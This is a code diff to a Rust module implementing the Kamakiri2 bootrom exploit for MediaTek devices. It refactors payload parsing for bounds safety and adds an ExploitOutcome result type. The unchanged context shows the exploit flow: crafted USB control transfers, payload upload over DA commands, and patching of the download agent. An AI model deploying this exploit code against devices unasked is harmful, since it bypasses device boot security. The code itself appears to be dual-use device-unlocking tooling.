@@ -17,7 +17,9 @@ use crate::connection::Connection;
 use crate::connection::port::{ConnectionType, MTKPort};
 use crate::da::{DA, DAProtocol};
 use crate::error::{Error, Result};
-use crate::exploit::{BootStage, Exploit, ExploitMeta};
+use crate::exploit::{BootStage, Exploit, ExploitMeta, ExploitOutcome};
+use crate::le_u32;
+use crate::utilities::patching::write_bytes;
 
 const KAMAKIRI_PAYLOAD: &[u8] = include_bytes!("../../payloads/kksecpatcher.bin");
 const KAMAKIRI_PAYLOAD_MAGIC: &[u8] = b"PENUMBRAKK";
@@ -76,16 +78,16 @@ impl Kamakiri2 {
     fn get_payload(&self, hw_code: u16) -> Option<KamakiriPayload> {
         let data = KAMAKIRI_PAYLOAD;
 
-        if &data[0..10] != KAMAKIRI_PAYLOAD_MAGIC || data.len() < PAYLOAD_HEADER_SIZE {
+        if data.len() < PAYLOAD_HEADER_SIZE || !data.starts_with(KAMAKIRI_PAYLOAD_MAGIC) {
             return None;
         }
 
-        let num_entries = self.read_u32(data, 12) as usize;
-        let payload_offset = self.read_u32(data, 16) as usize;
-        let payload_size = self.read_u32(data, 20) as usize;
+        let num_entries = self.read_u32(data, 12)? as usize;
+        let payload_offset = self.read_u32(data, 16)? as usize;
+        let payload_size = self.read_u32(data, 20)? as usize;
 
         let matched_entry = self.find_hw_entry(data, num_entries, hw_code as u32)?;
-        let payload = data[payload_offset..payload_offset + payload_size].to_vec();
+        let payload = data.get(payload_offset..payload_offset + payload_size)?.to_vec();
 
         Some(KamakiriPayload {
             payload,
@@ -95,8 +97,9 @@ impl Kamakiri2 {
         })
     }
 
-    fn read_u32(&self, data: &[u8], offset: usize) -> u32 {
-        u32::from_le_bytes(data[offset..offset + 4].try_into().unwrap())
+    fn read_u32(&self, data: &[u8], offset: usize) -> Option<u32> {
+        let bytes = data.get(offset..offset + 4)?;
+        Some(u32::from_le_bytes(bytes.try_into().ok()?))
     }
 
     fn find_hw_entry(
@@ -107,10 +110,10 @@ impl Kamakiri2 {
     ) -> Option<(u32, u32, u32, u32)> {
         for i in 0..num_entries {
             let base = PAYLOAD_HEADER_SIZE + i * ENTRY_SIZE;
-            let hw = self.read_u32(data, base);
-            let wdt = self.read_u32(data, base + 4);
-            let ptr_usbdl = self.read_u32(data, base + 8);
-            let ptr_da = self.read_u32(data, base + 12);
+            let hw = self.read_u32(data, base)?;
+            let wdt = self.read_u32(data, base + 4)?;
+            let ptr_usbdl = self.read_u32(data, base + 8)?;
+            let ptr_da = self.read_u32(data, base + 12)?;
 
             if hw == target_hw {
                 debug!(
@@ -130,8 +133,8 @@ impl Kamakiri2 {
         val: u32,
     ) -> Result<()> {
         let mut v = [0u8; 16];
-        v[..linecoding.len()].copy_from_slice(linecoding);
-        v[linecoding.len()..linecoding.len() + 4].copy_from_slice(&val.to_le_bytes());
+        write_bytes(&mut v, 0, linecoding)?;
+        write_bytes(&mut v, linecoding.len(), &val.to_le_bytes())?;
         port.ctrl_out(0x21, 0x20, 0, 0, &v).await?;
         port.ctrl_in(0x80, 0x06, 0x0200, 0, 9).await?;
         Ok(())
@@ -159,11 +162,11 @@ impl Kamakiri2 {
 
         match direction {
             CmdDaDirection::ToDevice => {
-                if data.is_none() {
+                let Some(data) = data else {
                     return Err(Error::conn("No data provided for CmdDA ToDevice"));
-                }
+                };
 
-                conn.port.write_all(data.unwrap()).await?;
+                conn.port.write_all(data).await?;
             }
             CmdDaDirection::FromDevice => {
                 let mut buffer = vec![0u8; length];
@@ -268,17 +271,20 @@ impl Kamakiri2 {
 
 #[async_trait]
 impl Exploit for Kamakiri2 {
-    async fn run(&mut self, protocol: &mut dyn DAProtocol) -> Result<bool> {
+    async fn run(&mut self, protocol: &mut dyn DAProtocol) -> Result<ExploitOutcome> {
         if protocol.get_connection().connection_type != ConnectionType::Brom {
-            return Ok(false);
+            return Ok(ExploitOutcome::Skipped("not BROM".to_string()));
         }
 
         let hw_code = protocol.get_connection().get_hw_code().await?;
         debug!("[Exploit] Detected HW code: 0x{:04X}", hw_code);
 
-        let payload = self
-            .get_payload(hw_code)
-            .ok_or_else(|| Error::penumbra("No Kamakiri payload found for this HW code"))?;
+        let Some(payload) = self.get_payload(hw_code) else {
+            return Ok(ExploitOutcome::Skipped(format!(
+                "no payload for HW code 0x{:04X}",
+                hw_code
+            )));
+        };
 
         info!("[Exploit] Device is vulnerable to Kamakiri, exploiting...");
         debug!("[Exploit] Kamakiri2 payload found for HW code 0x{:04X}", hw_code);
@@ -297,7 +303,7 @@ impl Exploit for Kamakiri2 {
             })
             .await?;
 
-        let ptr_send = u32::from_le_bytes(resp[..4].try_into().unwrap()) + 8;
+        let ptr_send = le_u32!(resp, 0)? + 8;
 
         self.da_rw(protocol, &payload, &linecode, DaRwParams {
             direction: CmdDaDirection::ToDevice,
@@ -340,7 +346,7 @@ impl Exploit for Kamakiri2 {
         self.patched_da = protocol.patch_da();
 
         info!("[Exploit] Kamakiri2 done!");
-        Ok(true)
+        Ok(ExploitOutcome::Succeeded)
     }
 
     fn get_meta(&self) -> &ExploitMeta {